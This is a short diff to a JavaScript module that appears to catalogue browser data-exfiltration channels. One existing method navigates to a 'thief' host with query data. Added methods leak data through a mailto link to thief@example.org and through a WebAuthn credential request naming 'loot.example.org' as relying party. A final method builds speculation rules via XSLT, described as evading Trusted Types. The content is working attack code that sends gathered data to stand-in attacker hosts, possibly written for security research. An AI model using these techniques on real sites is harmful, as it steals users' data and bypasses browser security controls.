@@ -132,6 +132,16 @@ export default () => {
       location.assign(`${thief}/navigation?${query()}`);
       return wait();
     },
+    /** Another program would bring it: the one for mails, or for chats. */
+    mail(thief) {
+      location.assign(`mailto:thief@example.org?body=${thief}/mail?${query()}`);
+      return wait();
+    },
+    /** Before it shows anything, the browser asks the site whose keys are wanted, by a name that may carry findings. */
+    keys: () =>
+      navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), rpId: 'loot.example.org' } }).catch(({ name, message }) => {
+        take(`keys: ${name} ${message}`);
+      }),
     /** Rules by which the browser prefetches a page, as an element that XSLT makes: Trusted Types don't cover that. */
     speculation(thief) {
       const space = 'http://www.w3.org/1999/XSL/Transform';
